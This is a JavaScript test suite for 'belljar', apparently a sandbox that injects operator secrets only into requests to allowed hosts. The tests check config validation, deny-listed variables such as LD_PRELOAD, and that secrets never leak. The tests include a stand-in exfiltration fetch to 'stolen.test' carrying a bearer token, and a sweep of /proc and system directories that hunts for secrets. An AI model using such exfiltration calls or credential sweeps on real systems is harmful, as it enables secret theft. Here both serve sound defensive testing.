// How the operator gives secrets, what mistakes there are to make, and that a secret shows nowhere.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import { cli } from '../e2e/lib/belljar.mjs';
import { openBench, session } from './lib/bench.mjs';
import { bearer, getting, head, own, placeholder, SecretsBench, valuesOf } from './lib/secrets_bench.mjs';

const bench = openBench(new SecretsBench());
const token = placeholder('github');
const text = getting('/', bearer(token));
const belljar = (args, env) => cli(args, { env: { ...bench.lab.environment(), ...env } });

// Whether a belljar of its own passes the secret on.
async function arrives(t, env, value = bench.values.github, args = ['mcp']) {
  const { seen } = await bench.on(await bench.serve(t, env, args), (text) => tell(text), { data: text });
  assert.match(seen, /^HTTP\/1\.1 200 /, seen);
  assert.deepEqual((await bench.requests()).map((request) => valuesOf(request, 'Authorization')), [[`Bearer ${value}`]]);
}

describe('a secret', () => {
  test('comes from a file, without the end of its line', async (t) => {
    for (const [name, content] of [['with', `${bench.values.github}\n`], ['without', bench.values.github]]) {
      const file = bench.write(name, content);
      await arrives(t, bench.secretive(`[secrets.github]\nhosts = ["api.test"]\nvalue-file = "${file}"\n`));
    }
  });

  test('comes from the environment of belljar, which programs do not have', async (t) => {
    const env = { ...bench.secretive('[secrets.github]\nhosts = ["API.test"]\nvalue-env = "LAB_SECRET"\n'), LAB_SECRET: 'from the environment' };
    await arrives(t, env, env.LAB_SECRET);
    const { seen } = await bench.on(await bench.serve(t, env), () => process.env);
    assert.deepEqual([seen.GITHUB, seen.LAB_SECRET], [token, undefined]);
  });

  test('comes with the file that --config names', async (t) => {
    const { BELLJAR_CONFIG: file, ...env } = bench.secretive();
    await arrives(t, env, bench.values.github, ['mcp', '--config', file]);
  });

  test('goes to whom the operator trusts: the system, or NODE_EXTRA_CA_CERTS', async (t) => {
    const { SSL_CERT_FILE: file, ...env } = bench.secretive();
    await arrives(t, { ...env, NODE_EXTRA_CA_CERTS: file });
    const { seen, network } = await bench.on(await bench.serve(t, env), (text) => tell(text), { data: text });
    assert.match(seen, /^HTTP\/1\.1 502 [^]*\r\n\r\nbelljar: /);
    assert.deepEqual(network.map(({ verdict }) => verdict), ['failed']);
    assert.equal(await bench.said(), '');
  });
});

describe('a mistake stops the start:', () => {
  const file = () => bench.write('good.secret', 'a value\n');
  const secret = (...lines) => `[secrets.broken]\n${lines.join('\n')}\n`;
  const hosts = 'hosts = ["api.test"]';
  const value = () => `value-file = "${file()}"`;
  const holding = (content) => `value-file = "${bench.write('bad.secret', content)}"`;
  const mistakes = {
    'no hosts': () => secret(value()), 'an empty list of hosts': () => secret('hosts = []', value()), 'hosts that are no list': () => secret('hosts = 1', value()), 'hosts that are no names': () => secret('hosts = [1]', value()),
    'a wildcard': () => secret('hosts = ["*.test"]', value()), 'a wildcard for everything': () => secret('hosts = ["*"]', value()), 'an address': () => secret('hosts = ["93.184.216.40"]', value()), 'an address with a port': () => secret('hosts = ["api.test", "93.184.216.40:443"]', value()), 'an IPv6 address': () => secret('hosts = ["[2606:4700::28]:443"]', value()), 'a bare IPv6 address': () => secret('hosts = ["::1"]', value()),
    'a URL': () => secret('hosts = ["https://api.test"]', value()), 'port 0': () => secret('hosts = ["api.test:0"]', value()), 'a port that is too large': () => secret('hosts = ["api.test:65536"]', value()), 'an empty host': () => secret('hosts = [""]', value()),
    'no value': () => secret(hosts), 'two values': () => secret(hosts, value(), 'value-env = "HOME"'), 'a file that is not there': () => secret(hosts, 'value-file = "/nowhere/secret"'), 'an empty file': () => secret(hosts, holding('')), 'a file with an empty line': () => secret(hosts, holding('\n')), 'a directory': () => secret(hosts, 'value-file = "/etc"'),
    'a variable that is not there': () => secret(hosts, 'value-env = "LAB_NOT_THERE"'), 'a variable that is empty': () => secret(hosts, 'value-env = "LAB_EMPTY"'), 'two lines': () => secret(hosts, holding('one-canary\ntwo-canary\n')), 'a bell': () => secret(hosts, holding('one-canary\x07two-canary')), 'a NUL': () => secret(hosts, holding('one-canary\0two-canary')),
    ...Object.fromEntries(['', 'X Y', 'X:', 'X\\r\\nY', 'Überschrift', '"', 'Host', 'content-length', 'Transfer-Encoding', 'CONNECTION', 'Upgrade', 'TE', 'Trailer', 'Expect'].map((header) => [`the header "${header}"`, () => secret(hosts, value(), `header = "${header.replace(/^"$/, '\\"')}"`)])),
    ...Object.fromEntries(['', '1X', 'A-B', 'A=B', 'PATH', 'HOME', 'LD_PRELOAD', 'NODE_OPTIONS', 'NODE_EXTRA_CA_CERTS', 'https_proxy'].map((name) => [`the variable "${name}"`, () => secret(hosts, value(), `variable = "${name}"`)])),
    'an unknown key': () => secret(hosts, value(), 'hostz = ["api.test"]'), 'a value in the file itself': () => secret(hosts, 'value = "one-canary"'),
  };
  for (const [name, make] of Object.entries(mistakes)) {
    test(name, async () => {
      const env = { ...bench.secretive(make()), LAB_EMPTY: '' };
      const { code, stdout, stderr } = await belljar(['mcp'], env);
      assert.notEqual(code, 0, `${stdout}${stderr}`);
      assert.equal(stdout, '');
      assert.ok(stderr.includes(env.BELLJAR_CONFIG), stderr);
      assert.match(stderr, /\bbroken\b/);
      assert.doesNotMatch(stderr, /canary|a value/);
    });
  }

  test('and none of them is in what these tests use', async () => {
    const { code, stderr } = await belljar(['mcp'], bench.secretive());
    assert.equal(code, 0, stderr);
  });
});

describe('a secret does not show', () => {
  test('in `belljar config`, which names all but the value', async () => {
    for (const args of [['config'], ['config', '--json']]) {
      const { code, stdout, stderr } = await belljar(args, bench.secretive());
      assert.equal(code, 0, stderr);
      for (const word of ['github', 'api.test', 'stolen.test', 'Authorization', 'GITHUB_TOKEN', 'second-key', 'X-Api-Key', 'SECOND_KEY', 'ported.test:8443', 'PORTED_TOKEN']) assert.ok(stdout.includes(word), `${args}: ${word}\n${stdout}`);
      assert.equal(bench.leaked(stdout + stderr), undefined);
    }
  });

  test('NW22 in the environment, the files and the processes of a sandbox that uses it', async (t) => {
    // The program must not have in its text what it looks for.
    const backwards = Object.values(bench.values).map((value) => [...value].reverse().join(''));
    const search = async ({ text, backwards }) => {
      const talk = await secure('api.test');
      await talk.say(text).until(/was answered/); // and the connection stays while we look
      const canaries = backwards.map((value) => [...value].reverse().join('')).flatMap((value) => [value, Buffer.from(value).toString('base64').replace(/=+$/, ''), Buffer.from(value).toString('hex')]);
      const found = [];
      let looked = 0;
      const look = (where, bytes) => (looked += 1) && canaries.some((canary) => bytes.includes(canary)) && found.push(where);
      const walk = (path, depth) => {
        let stat;
        try {
          stat = fs.lstatSync(path);
        } catch {
          return;
        }
        try {
          if (stat.isDirectory() && depth > 0) for (const name of fs.readdirSync(path)) walk(`${path}/${name}`, depth - 1);
          else if (stat.isSymbolicLink()) look(path, fs.readlinkSync(path));
          else if (stat.isFile() && stat.size < 1_000_000) look(path, fs.readFileSync(path));
        } catch {} // what cannot be read is not seen
      };
      look('environment', JSON.stringify(process.env));
      for (const path of ['/etc', '/workspace', '/tmp', '/run', '/var', '/home', '/root', '/dev', '/opt', '/srv', '/mnt']) walk(path, 8);
      for (const id of fs.readdirSync('/proc').filter((name) => /^(\d+|self)$/.test(name))) for (const name of ['environ', 'cmdline', 'comm', 'maps', 'mountinfo', 'mounts', 'status', 'stat', 'cgroup', 'limits', 'auxv', 'fd', 'net/tcp', 'net/unix']) walk(`/proc/${id}/${name}`, 1);
      const keys = [];
      for (const path of ['/etc/ssl/belljar.pem', '/etc/ssl/certs/ca-certificates.crt']) if (fs.readFileSync(path, 'latin1').includes('PRIVATE KEY')) keys.push(path);
      return { found, keys, looked };
    };
    const data = { text: head('GET / HTTP/1.1', 'Host: api.test', bearer(token)), backwards };
    const id = await session(t, bench.server, { network: 'internet' });
    for (const options of [{}, { in: id }]) {
      const { seen } = await bench.inside(search, { data, ...options });
      assert.deepEqual([seen.found, seen.keys], [[], []]);
      assert.ok(seen.looked > 50, `${seen.looked} places`);
      assert.deepEqual(valuesOf((await bench.requests())[0], 'Authorization'), [`Bearer ${bench.values.github}`]);
    }
    // Where one is, it is found.
    const planted = await bench.inside(search, { data, env: { PLANTED: bench.values.ported } });
    assert.ok(planted.seen.found.includes('environment') && planted.seen.found.some((path) => path.endsWith('/environ')), `${planted.seen.found}`);
  });

  test('NW22 in the log at its most talkative, in results and in texts of errors', async (t) => {
    const server = await bench.serveSecrets(t, { BELLJAR_LOG_LEVEL: 'debug' });
    const bad = { host: head('GET / HTTP/1.1', 'Host: other.test', bearer(token)), line: head('GET /', bearer(token)), length: head('POST / HTTP/1.1', 'Host: api.test', bearer(token), 'Content-Length: x'), own: getting('/', bearer(own)) };
    await bench.on(server, ({ text, bad }) => outcomes({ good: tell(text), bad: tellAll(bad), stolen: tell(text.replace('api', 'stolen'), { host: 'stolen.test' }), mistaken: tell(text.replace('api', 'mistaken'), { host: 'mistaken.test' }), resetting: tell(text.replace('api', 'resetting'), { host: 'resetting.test' }), h2: secure('api.test', { ALPNProtocols: ['h2'] }).catch(() => 0).then(() => 0), blocked: dial('10.1.2.3', 443) }), { data: { text, bad } });
    assert.ok((await bench.said()).includes(bench.values.github), 'there was something to tell');
    const failed = await server.run(`throw new Error(await (await fetch('https://stolen.test/', { headers: { authorization: 'Bearer ${token}' } })).text())`);
    assert.equal(failed.isError, true);
    await server.stop();
    assert.ok(server.stderr.length > 0);
    assert.equal(bench.leaked(server.stderr), undefined, server.stderr);
    assert.equal(bench.leaked(JSON.stringify(server.received)), undefined);
  });

  test('in anything that the server of these tests has said', () => {
    assert.equal(bench.leaked(bench.server.stderr + JSON.stringify(bench.server.received)), undefined);
  });
});
